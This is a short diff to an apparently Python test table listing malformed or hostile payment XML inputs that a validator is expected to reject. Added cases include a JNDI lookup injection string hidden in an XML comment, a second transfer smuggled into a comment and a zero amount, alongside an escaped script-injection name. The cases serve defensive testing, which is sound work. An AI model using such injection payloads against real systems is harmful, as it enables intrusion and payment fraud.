@@ -160,6 +160,9 @@ STOPPED = {
     "nothing": ("not-well-formed", ""),
     "no XML": ("not-well-formed", "hello"),
     "an order for a payment": ("schema-unknown", ORDER),
+    "a transfer in a comment": ("comment-markup", PAYMENT.replace("</PmtInf>", f"<!--{SECOND}--></PmtInf>")),
+    "a look-up in a comment": ("lookup", PAYMENT.replace("<PmtInf>", "<!--${jndi:ldap://x/a}--><PmtInf>")),
+    "an amount of nothing": ("number-form", payment(InstdAmt="0.00", CtrlSum="0.00")),
     "a name that is markup": ("script", payment(Nm="&lt;script&gt;alert(1)&lt;/script&gt;")),
 }
 
